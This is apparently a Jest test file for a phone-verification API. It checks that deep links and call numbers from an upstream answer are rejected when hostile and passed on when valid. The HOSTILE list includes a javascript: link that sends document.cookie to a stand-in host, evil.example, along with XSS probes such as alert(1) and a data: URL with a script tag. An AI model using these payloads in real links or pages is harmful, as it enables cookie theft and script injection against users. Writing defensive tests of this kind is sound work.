/**
 * What the API hands a user to open or call is checked where its answer is read: a start whose
 * upstream answer carries a `javascript:` link or a number that is not E.164 is not passed on (the
 * answer is unusable: 503 `service_unavailable`), on Express and Fastify; an allowed one is.
 */
import { describe, expect, it } from '@jest/globals';
import { sandboxSuite } from '../support/sandbox-suite.js';
import { call, PLATFORMS, type Platform } from '../support/verification-app.js';
import { startAccountHost } from '../webhooks/harness.js';

const HOSTILE: [string, string, unknown][] = [
  ['msgr2_bot', 'deep_link', 'javascript:fetch("//evil.example/?"+document.cookie)'],
  ['msgr2_bot', 'deep_link', 'JavaScript:alert(1)'],
  ['msgr2_bot', 'deep_link', 'data:text/html,<script>alert(1)</script>'],
  ['msgr2_bot', 'deep_link', 'http://msgr2.example/bot?start=t'],
  ['msgr2_bot', 'deep_link', ' javascript:alert(1)'],
  ['msgr2_bot', 'deep_link', 42],
  ['msgr2_bot', 'deep_link', 'https://msgr2.example/login'],
  ['msgr2_bot', 'deep_link', 'tg://login?token=abc'],
  ['reverse_flash_call', 'number_to_call', '+7 495 000-00-00'],
  ['reverse_flash_call', 'number_to_call', 'javascript:alert(1)'],
  ['reverse_flash_call', 'number_to_call', '+749500'],
];

describe.each(PLATFORMS)(
  'links and numbers from the API, checked where they enter (%s)',
  (platform: Platform) => {
    const suite = sandboxSuite();
    let serial = 0;
    const phoneNumber = () =>
      `+7916333${String(process.pid % 100).padStart(2, '0')}${String(++serial).padStart(2, '0')}`;
    const start = (method: string) =>
      call(suite.host!.url, 'POST', '/verification/start', { phone_number: phoneNumber(), method });

    it.each(HOSTILE)('%s answered with %s %j: not passed on, 503', async (method, field, value) => {
      suite.host = await startAccountHost(platform, suite.sb);
      suite.sb.addFault({ route: 'POST /v1/verify', kind: 'field', field, value });
      const answer = await start(method);
      expect(answer.status).toBe(503);
      expect(answer.body).toMatchObject({ status: 503, error_code: 'service_unavailable' });
      expect(JSON.stringify(answer.body)).not.toContain(String(value).trim().slice(0, 10));
    });

    it.each([
      ['msgr2_bot', 'deep_link', 'tg://resolve?domain=verify_bot&start=t'],
      ['msgr2_bot', 'deep_link', 'https://msgr2.example/verify_bot?start=t'],
      ['reverse_flash_call', 'number_to_call', '+74950000000'],
    ])('%s answered with %s %s: passed on', async (method, field, value) => {
      suite.host = await startAccountHost(platform, suite.sb);
      suite.sb.addFault({ route: 'POST /v1/verify', kind: 'field', field, value });
      const answer = await start(method);
      expect(answer.status).toBe(201);
      expect(answer.body[field]).toBe(value);
    });
  },
);
